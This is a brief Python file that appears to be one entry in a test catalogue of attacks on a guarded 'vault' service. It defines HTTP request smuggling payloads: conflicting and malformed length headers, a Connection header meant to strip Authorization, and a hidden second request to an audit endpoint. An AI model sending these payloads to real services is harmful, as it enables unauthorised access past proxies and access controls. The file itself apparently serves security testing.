"""Attack 210: header smuggling"""

IDEA = "A second request in the body of the first."
SOURCE = "HTTP request smuggling"
WAY = "outside/vault/relay"
CODE = r"""
for headers in (
    {"Transfer-Encoding": "chunked", "Content-Length": "4"},
    {"Content-Length": "0, 40"},
    {"Connection": "Authorization", "Host": "elsewhere", "Kernel-Guard-Kernel": "x"},
):
    try:
        print(vault_call("POST", "/v1/quote", b"GET /v1/audit HTTP/1.1\r\n\r\n", headers))
    except Exception:
        break
"""
ABSENT = ["TOKEN"]
WORKS_UNGUARDED = False
FRESH = True
